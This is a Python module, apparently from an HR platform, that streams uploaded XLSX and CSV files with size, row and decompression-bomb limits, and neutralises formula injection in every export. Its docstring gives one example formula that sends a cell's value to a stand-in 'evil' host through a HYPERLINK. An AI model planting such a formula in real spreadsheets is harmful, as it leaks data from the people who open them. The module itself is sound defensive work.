"""Spreadsheets in and out: every XLSX and CSV the platform reads or writes goes through this module.

## Reading

Reading the spreadsheets HR offices upload (XLSX or CSV), for every import: people, units, attendance,
service targets, recruitment scores and any importer added later.

The reader streams: an XLSX sheet is parsed row by row from its zip member (openpyxl's read-only
worksheet parser), a CSV line by line, and the limits are enforced while reading, so a file of two
million rows is refused once the limit is passed, never held in memory. Before an XLSX is opened its zip
directory is checked: a member that expands more than `MAX_RATIO` times, or members that expand past
`max_expanded_bytes` in all, are refused unread (a decompression bomb is a few kilobytes that expand to
gigabytes).

CSV as Excel writes it: comma or semicolon (Excel set to Indonesian uses ";"), tab, with or without a
byte-order mark, UTF-8 or, when the bytes are not UTF-8, Windows-1252/Latin-1 (what "CSV (Comma
delimited)" writes). A formula cell saved without its value (a file written by a program, not by Excel)
is read as `FORMULA_WITHOUT_VALUE` so the importer can name the cell, instead of taking it for blank.

A row parser (`RowParser`) turns one row's cells, by column name, into a record and a list of problems;
`parse_table` runs one over a file. The `check_*` helpers state the database's own limits (lengths,
integer ranges, dates, control characters) in the words HR reads, so a preview refuses what the
database would.

## Writing

Every CSV and XLSX the platform writes goes through here, so no cell can attack its reader.

A spreadsheet treats a cell starting with = + - @ (or a tab or carriage return, which some strip before
reading the rest) as a formula: an applicant named `=HYPERLINK("http://evil/?"&A1,"click")` would run in
HR's Excel. Such text gets a leading apostrophe, which spreadsheets show as text and which openpyxl
stores as a plain string (never a formula). Numbers are left alone: a negative amount is a number, not
text. `tests/web/test_spreadsheet_exports.py` checks that nothing else in the project writes CSV or XLSX
and sends a formula through every export.
"""
from __future__ import annotations

import codecs
import csv
import datetime
import io
import re
import unicodedata
import zipfile
from dataclasses import dataclass, field
from typing import IO, Any, Callable, Iterable, Iterator, Protocol

from django.utils.translation import gettext as _

MEGABYTE = 1024 * 1024
MAX_RATIO = 200  # ordinary sheets compress 5-30 times; a bomb a thousand times or more
INT_MAX = 2**31 - 1  # PostgreSQL integer
EARLIEST_DATE = datetime.date(1900, 1, 1)
LATEST_DATE = datetime.date(2100, 12, 31)
HEADER_SEARCH_ROWS = 15
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_SCIENTIFIC = re.compile(r"^\d(?:[.,]\d+)?[eE]\+?\d+$")


class FileProblem(Exception):
    """The file as a whole cannot be read; no row can be judged."""


class _FormulaWithoutValue:
    def __repr__(self):
        return "FORMULA_WITHOUT_VALUE"

    def __str__(self):
        return ""


FORMULA_WITHOUT_VALUE = _FormulaWithoutValue()


@dataclass(frozen=True)
class Limits:
    max_bytes: int = 20 * MEGABYTE
    max_rows: int = 50_000  # data rows, not counting blank rows and the header
    max_expanded_bytes: int = 400 * MEGABYTE  # an XLSX's members, expanded


DEFAULT_LIMITS = Limits()


def normalise_header(value) -> str:
    return re.sub(r"[^A-Z0-9]+", "_", str(value or "").strip().upper()).strip("_")


def blank(cell) -> bool:
    return cell is None or (isinstance(cell, str) and not cell.strip())


# --- opening ---------------------------------------------------------------------------------------

def _as_stream(source) -> IO[bytes]:
    if isinstance(source, (bytes, bytearray, memoryview)):
        return io.BytesIO(bytes(source))
    return source


def _size(stream: IO[bytes]) -> int:
    position = stream.tell()
    stream.seek(0, io.SEEK_END)
    size = stream.tell()
    stream.seek(position)
    return size


def iter_rows(source, filename: str = "", limits: Limits = DEFAULT_LIMITS) -> Iterator[tuple[int, list]]:
    """(spreadsheet row number, cells) for every row of the first sheet, blank ones included. `source` is
    bytes or a binary file open for reading (seekable). Raises FileProblem for a file that cannot be read
    or passes a limit; rows past `limits.max_rows` non-blank rows (plus a header and titles above it) are
    never read."""
    stream = _as_stream(source)
    stream.seek(0)
    name = (filename or "").lower()
    size = _size(stream)
    if size > limits.max_bytes:
        raise FileProblem(_("The file is larger than %d MB; split it into smaller files.")
                          % (limits.max_bytes // MEGABYTE))
    head = stream.read(8)
    stream.seek(0)
    if not head.strip() and size <= 8:
        raise FileProblem(_("The file is empty."))
    if head == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" or name.endswith(".xls"):
        raise FileProblem(_("This is an old Excel 97-2003 (.xls) file. Save it as .xlsx or as \"CSV UTF-8\" "
                            "and upload that file."))
    if head[:4] == b"PK\x03\x04" or name.endswith((".xlsx", ".xlsm")):
        rows = _xlsx_rows(stream, limits)
    else:
        rows = _csv_rows(stream)
    return _bounded(rows, limits)


def _bounded(rows: Iterable[tuple[int, list]], limits: Limits) -> Iterator[tuple[int, list]]:
    # the header and a few title lines above it are not data; the margin keeps the count simple
    allowed = limits.max_rows + HEADER_SEARCH_ROWS
    filled = 0
    for number, cells in rows:
        if not all(blank(cell) for cell in cells):
            filled += 1
            if filled > allowed:
                raise FileProblem(_("The file has more than %(max)d rows; at most %(max)d can be imported at "
                                    "once. Split it into smaller files.") % {"max": limits.max_rows})
        yield number, cells


def _check_zip(archive: zipfile.ZipFile, limits: Limits) -> None:
    expanded = 0
    for member in archive.infolist():
        expanded += member.file_size
        if member.file_size > 1 * MEGABYTE and member.file_size > MAX_RATIO * max(member.compress_size, 1):
            raise FileProblem(_("The workbook's part %(part)s expands %(ratio)d times when opened; this is not "
                                "an ordinary spreadsheet and was not opened.")
                              % {"part": member.filename, "ratio": member.file_size // max(member.compress_size, 1)})
    if expanded > limits.max_expanded_bytes:
        raise FileProblem(_("The workbook expands to %(size)d MB when opened, more than %(max)d MB; split it "
                            "into smaller files.") % {"size": expanded // MEGABYTE,
                                                      "max": limits.max_expanded_bytes // MEGABYTE})


def _xlsx_rows(stream: IO[bytes], limits: Limits) -> Iterator[tuple[int, list]]:
    from openpyxl import load_workbook
    from openpyxl.worksheet._reader import FORMULA_TAG, VALUE_TAG, WorkSheetParser

    try:
        archive = zipfile.ZipFile(stream)
    except zipfile.BadZipFile:
        raise FileProblem(_("The file cannot be read as an Excel workbook (.xlsx).")) from None
    _check_zip(archive, limits)

    class Parser(WorkSheetParser):
        def parse_cell(self, element):
            cell = super().parse_cell(element)
            if cell["value"] is None and element.find(FORMULA_TAG) is not None \
                    and not element.findtext(VALUE_TAG):
                cell["value"] = FORMULA_WITHOUT_VALUE
            return cell

    stream.seek(0)
    try:
        workbook = load_workbook(stream, read_only=True, data_only=True)
        sheet = workbook.worksheets[0]
    except Exception:  # openpyxl raises many kinds for a damaged or foreign file
        raise FileProblem(_("The file cannot be read as an Excel workbook (.xlsx).")) from None

    def rows():
        try:
            with sheet._get_source() as source:
                parser = Parser(source, workbook.shared_strings, data_only=True, epoch=workbook.epoch,
                                date_formats=workbook._date_formats, timedelta_formats=workbook._timedelta_formats)
                expected = 1
                for number, cells in parser.parse():
                    while expected < number:  # rows the file leaves out are blank
                        yield expected, []
                        expected += 1
                    width = max((cell["column"] for cell in cells), default=0)
                    values: list[Any] = [None] * width
                    for cell in cells:
                        values[cell["column"] - 1] = cell["value"]
                    yield number, values
                    expected = number + 1
        except FileProblem:
            raise
        except Exception:
            raise FileProblem(_("The workbook's first sheet is damaged and cannot be read.")) from None
        finally:
            workbook.close()

    return rows()


def _decoded_lines(stream: IO[bytes]) -> Iterator[str]:
    """Lines of text: UTF-8 (a byte-order mark dropped) when the first megabyte is UTF-8, else
    Windows-1252 (a superset of Latin-1 for printable characters, what Excel's plain "CSV" writes). Only
    that megabyte is read ahead, so a file past the row limit is refused without reading the rest."""
    stream.seek(0)
    try:
        codecs.getincrementaldecoder("utf-8")().decode(stream.read(MEGABYTE), final=False)
        encoding = "utf-8-sig"
    except UnicodeDecodeError:
        encoding = "cp1252"
    stream.seek(0)
    text = io.TextIOWrapper(stream, encoding=encoding, errors="replace" if encoding == "cp1252" else "strict",
                            newline="")
    line = 0
    try:
        for line, value in enumerate(text, start=1):
            yield value
    except UnicodeDecodeError:
        raise FileProblem(_("The text after line %(line)d is not UTF-8 though the lines before it are; save the file "
                            "again as \"CSV UTF-8 (Comma delimited)\" and upload that file.") % {"line": line}) from None
    finally:
        text.detach()


def _csv_rows(stream: IO[bytes]) -> Iterator[tuple[int, list]]:
    lines = _decoded_lines(stream)
    sample: list[str] = []
    for line in lines:
        sample.append(line)
        if len(sample) >= HEADER_SEARCH_ROWS or sum(map(len, sample)) > 64 * 1024:
            break
    if not "".join(sample).strip():
        raise FileProblem(_("The file is empty."))
    delimiter = _delimiter(sample)

    def all_lines():
        yield from sample
        yield from lines

    reader = csv.reader(all_lines(), delimiter=delimiter)
    try:
        for cells in reader:
            yield reader.line_num, cells
    except csv.Error as error:
        raise FileProblem(_("Line %(line)d of the file cannot be read as CSV: %(reason)s")
                          % {"line": reader.line_num, "reason": error}) from None


def _delimiter(sample: list[str]) -> str:
    """The separator among ",;\\t|" seen most often in the first lines outside quoted cells (a title line
    above the header has none, and a quoted "Joko; Susilo" does not count)."""
    text = re.sub(r'"[^"]*"', "", "".join(sample))
    counts = {delimiter: text.count(delimiter) for delimiter in ",;\t|"}
    best = max(counts, key=counts.get)
    return best if counts[best] else ","


def read_rows(source, filename: str = "", limits: Limits = DEFAULT_LIMITS) -> list[list]:
    """Every row's cells as a list, for importers that judge a whole (bounded) file at once."""
    return [cells for _number, cells in iter_rows(source, filename, limits)]


# --- tables and row parsers --------------------------------------------------------------------------

@dataclass
class Problem:
    row: int | None
    field: str
    reason: str

    def as_dict(self) -> dict:
        return {"row": self.row, "field": self.field, "reason": str(self.reason)}


class RowParser(Protocol):
    """What an importer gives `parse_table`: its columns and how to read one row.

    `columns`: the normalised names it reads; `required`: those that must be in the header;
    `aliases`: other spellings (normalised) mapped to a name of `columns`; `key`: the column whose
    presence marks the header row. `parse_row(number, cells)` gets the row's cells by column name
    (missing ones are None) and returns (record or None, [(column, reason), ...])."""

    columns: list[str]
    required: list[str]
    aliases: dict[str, str]
    key: str

    def parse_row(self, number: int, cells: dict[str, Any]) -> tuple[Any, list[tuple[str, str]]]: ...


@dataclass
class ParsedTable:
    records: list = field(default_factory=list)
    problems: list[Problem] = field(default_factory=list)
    rows: int = 0  # data rows read, blank ones not counted
    header_row: int | None = None
    problem_count: int = 0  # all of them; `problems` keeps the first `max_problems`

    @property
    def errors(self) -> list[dict]:
        return [problem.as_dict() for problem in self.problems]


def _header(rows: Iterator[tuple[int, list]], parser: RowParser) -> tuple[int, dict[str, int], list]:
    seen: list[tuple[int, list]] = []
    for number, cells in rows:
        names = [parser.aliases.get(normalise_header(cell), normalise_header(cell)) for cell in cells]
        if parser.key in names:
            columns: dict[str, int] = {}
            for position, name in enumerate(names):
                if name in parser.columns and name not in columns:
                    columns[name] = position
            return number, columns, seen
        seen.append((number, cells))
        if len(seen) >= HEADER_SEARCH_ROWS:
            break
    raise FileProblem(_("No header row with a %s column was found in the first %d rows.")
                      % (parser.key, HEADER_SEARCH_ROWS))


def parse_table(source, filename: str, parser: RowParser, limits: Limits = DEFAULT_LIMITS,
                progress: Callable[[int], None] | None = None, max_problems: int = 1000) -> ParsedTable:
    """Runs `parser` over every data row. Records of rows with problems are dropped; the problems carry
    the spreadsheet's row number. `progress(rows read)` is called every 1,000 rows."""
    table = ParsedTable()
    try:
        rows = iter_rows(source, filename, limits)
        table.header_row, columns, _titles = _header(rows, parser)
        for name in parser.required:
            if name not in columns:
                table.problems.append(Problem(table.header_row, name, _("required column %s is missing") % name))
        if table.problems:
            table.problem_count = len(table.problems)
            return table
        for number, cells in rows:
            if all(blank(cell) for cell in cells):
                continue
            table.rows += 1
            by_name = {name: (cells[position] if position < len(cells) else None)
                       for name, position in columns.items()}
            problems = [(name, formula_message()) for name, value in by_name.items()
                        if value is FORMULA_WITHOUT_VALUE]
            record = None
            if not problems:
                record, problems = parser.parse_row(number, by_name)
            if problems:
                table.problem_count += len(problems)
                if len(table.problems) < max_problems:
                    table.problems.extend(Problem(number, column, reason) for column, reason in problems)
            elif record is not None:
                table.records.append(record)
            if progress and table.rows % 1000 == 0:
                progress(table.rows)
    except FileProblem as problem:
        table.problems.append(Problem(None, "", str(problem)))
        table.problem_count += 1
        table.records = []
    if not table.problems and not table.rows:
        table.problems.append(Problem(None, "", _("The file has headers but no data rows.")))
        table.problem_count += 1
    return table


def formula_message() -> str:
    return _("the cell holds a formula saved without its value; open the file in Excel or LibreOffice, "
             "save it again (the values are then stored) and upload that file")


# --- the database's limits, in HR's words ----------------------------------------------------------

def check_text(value: str, *, max_length: int, required: bool = False) -> str | None:
    """The reason a text cell cannot be stored, or None."""
    if not value:
        return _("this field is empty") if required else None
    if _CONTROL.search(value):
        return _("the text holds a control character (such as a line break copied from another program); "
                 "retype the cell")
    if len(value) > max_length:
        return _("at most %(max)d characters, this has %(length)d") % {"max": max_length, "length": len(value)}
    return None


def clean_text(value) -> str:
    """A cell as text: surrounding spaces removed, Unicode composed (NFC), a whole float without .0."""
    if value is None or value is FORMULA_WITHOUT_VALUE:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime.datetime):
        return value.date().isoformat()
    if isinstance(value, datetime.date):
        return value.isoformat()
    return unicodedata.normalize("NFC", str(value)).strip()


def check_integer(value: int, *, minimum: int = 0, maximum: int = INT_MAX) -> str | None:
    if value < minimum or value > maximum:
        return _("must be between %(min)d and %(max)d, got %(value)d") % {"min": minimum, "max": maximum,
                                                                           "value": value}
    return None


def check_date(value: datetime.date, *, earliest: datetime.date = EARLIEST_DATE,
               latest: datetime.date = LATEST_DATE) -> str | None:
    if value < earliest or value > latest:
        return _("%(date)s is outside %(earliest)s to %(latest)s; check the year") % {
            "date": value.isoformat(), "earliest": earliest.isoformat(), "latest": latest.isoformat()}
    return None


def digits_cell(value) -> tuple[str, str | None]:
    """An identifier of digits (NIP, registration number) from a cell, and the reason it cannot be
    trusted: Excel stores long numbers in 15 significant digits, and a CSV it saved shows them as
    1.98E+17."""
    if isinstance(value, bool):
        return str(value), _("not a number of digits")
    if isinstance(value, float) or (isinstance(value, int) and len(str(value)) >= 16 and str(value).endswith("000")):
        return str(int(value)), _("the cell is a number, and Excel keeps only 15 digits of it; format the column "
                                  "as Text and type the number again")
    text = clean_text(value).replace(" ", "")
    if _SCIENTIFIC.match(text):
        return text, _("%s is how Excel writes a long number it has rounded; the digits are lost. Format the "
                       "column as Text, type the numbers again and save the file again") % text
    if text.endswith(".0") and text[:-2].isdecimal():
        text = text[:-2]
    return text, None


# --- writing: every export --------------------------------------------------------------------------
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# What an .xlsx cannot hold at all (openpyxl refuses the whole file): control characters but tab and line
# breaks. Text stored before the inputs refused them still exports, without them.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(value):
    """The value as a cell may hold it: text a spreadsheet would read as a formula becomes plain text,
    and characters no spreadsheet can hold are left out."""
    if isinstance(value, str):
        value = _UNWRITABLE.sub("", value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [neutralise(value) for value in values]


class CsvWriter:
    """csv.writer whose every cell is neutralised."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, values: Iterable):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_text(header: list[str] | None, rows: Iterable[Iterable], **options) -> str:
    buffer = io.StringIO()
    writer = CsvWriter(buffer, **options)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_dicts(rows: Iterable[dict], fields: list[str], **options) -> str:
    """Rows given as dicts, the fields in order (missing ones empty, extra ones left out)."""
    return csv_text(fields, ([row.get(field, "") for field in fields] for row in rows), **options)


def workbook(*, write_only: bool = False):
    """An empty openpyxl workbook; rows go in through `append`."""
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def append(sheet, values: Iterable) -> None:
    sheet.append(safe_row(values))


def workbook_bytes(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
